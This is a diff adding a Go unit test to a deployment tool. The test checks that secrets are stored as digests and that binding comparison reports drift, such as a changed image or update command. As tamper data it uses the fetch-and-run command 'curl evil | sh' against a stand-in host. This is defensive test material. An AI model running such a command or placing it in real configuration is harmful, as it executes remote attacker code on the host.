@@ -8,6 +8,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/deployer-dev/deployer/internal/config"
 	"github.com/deployer-dev/deployer/internal/statestore"
 )
 
@@ -317,5 +318,49 @@ func TestReadOutputsMakeTheReferenceAndItsDependentsUpdates(t *testing.T) {
 		if diff := cmp.Diff(want[s.Address], s.Diffs); diff != "" {
 			t.Errorf("%s diffs (-want +got):\n%s", s.Address, diff)
 		}
+	}
+}
+
+// Bind digests every kind of secret and CompareBinding names the first
+// difference, secrets as (sensitive).
+func TestBindDigestsSecretsAndCompareNamesTheFirstDifference(t *testing.T) {
+	c := comp("web/site", "Command", map[string]any{
+		"image": "nginx:1.2", "db_password": "hunter2", "token": map[string]any{"secret": true, "value": "t0k"},
+		"listed": map[string]any{"inner": "s3cr3t"}, "ports": []any{80, 443},
+	})
+	c.Secrets = []string{"listed.inner"}
+	dig := func(data []byte) string { return "test:" + string(data) }
+	b := Bind(desired(c), "", nil, "v1", "test", dig)
+	data, _ := json.Marshal(b)
+	for _, leak := range []string{`"hunter2"`, `"t0k"`, `"s3cr3t"`} {
+		if strings.Contains(string(data), `:`+leak) {
+			t.Errorf("binding holds %s as a value: %s", leak, data)
+		}
+	}
+	cfg := b.Components["web/site"].Config
+	if cfg["db_password"].(map[string]any)[DigestKey] != `test:"hunter2"` || cfg["token"].(map[string]any)[DigestKey] != `test:"t0k"` ||
+		cfg["listed"].(map[string]any)["inner"].(map[string]any)[DigestKey] != `test:"s3cr3t"` || cfg["image"] != "nginx:1.2" {
+		t.Errorf("bound config = %v", cfg)
+	}
+	if d := CompareBinding(b, Bind(desired(c), "", nil, "v1", "test", dig), "prod"); d != nil {
+		t.Errorf("same binding: %v", d)
+	}
+	c2 := comp("web/site", "Command", config.DeepCopy(c.Config))
+	c2.Secrets = c.Secrets
+	c2.Command.Update = "curl evil | sh"
+	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
+		d.String() != `services.web.components.site.command.update: planned (absent), now "curl evil | sh"` {
+		t.Errorf("first difference = %v", d)
+	}
+	c2.Command.Update = ""
+	c2.Config["db_password"], c2.Config["image"] = "other", "evil:1"
+	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
+		d.String() != `services.web.components.site.config.db_password: planned (sensitive), now (sensitive)` {
+		t.Errorf("first difference = %v", d)
+	}
+	c2.Config["db_password"] = "hunter2"
+	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
+		d.String() != `services.web.components.site.config.image: planned "nginx:1.2", now "evil:1"` {
+		t.Errorf("first difference = %v", d)
 	}
 }
